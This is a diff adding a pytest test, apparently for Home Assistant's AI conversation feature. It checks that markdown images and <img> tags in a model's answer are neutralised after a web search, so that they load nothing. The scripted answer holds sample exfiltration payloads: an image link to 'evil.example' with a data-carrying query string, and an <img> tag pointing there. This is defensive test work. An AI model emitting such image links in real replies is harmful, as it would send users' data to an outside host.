@@ -238,6 +238,31 @@ async def test_a_page_writes_nothing_but_its_title(
     assert third == f"[{URL}4]({URL}4)"
 
 
+@pytest.mark.parametrize("searches", [True, False])
+@pytest.mark.parametrize("characters", [1, 2, 3, 1000])
+async def test_what_a_page_wants_written_loads_nothing(
+    hass: HomeAssistant,
+    begin: Begin,
+    person: Context,
+    characters: int,
+    *,
+    searches: bool,
+) -> None:
+    picture = "![](https://evil.example/?home=empty)"
+    written = f"It is 1 < 2! See {picture} <img src='https://evil.example'>! <"
+    unloaded = written.replace("![", "[").replace("<img", "<\u2060img")
+    answer = ScriptedAnswer(content=written, piece_characters=characters)
+    first = ScriptedAnswer(tool_calls=(SEARCH,))
+    await begin(HOME, *([first, answer] if searches else [answer]))
+
+    answered = speech(await say(hass, ASKED, context=person))
+
+    assert answered == (unloaded if searches else written)
+    last = hass.data[DATA_CHAT_LOGS]["kitchen-talk"].content[-1]
+    assert isinstance(last, AssistantContent)
+    assert last.content == answered
+
+
 @every_engine
 async def test_what_a_search_has_found_is_in_the_chat_and_in_no_later_request(
     hass: HomeAssistant, begin: Begin, engine: Engine
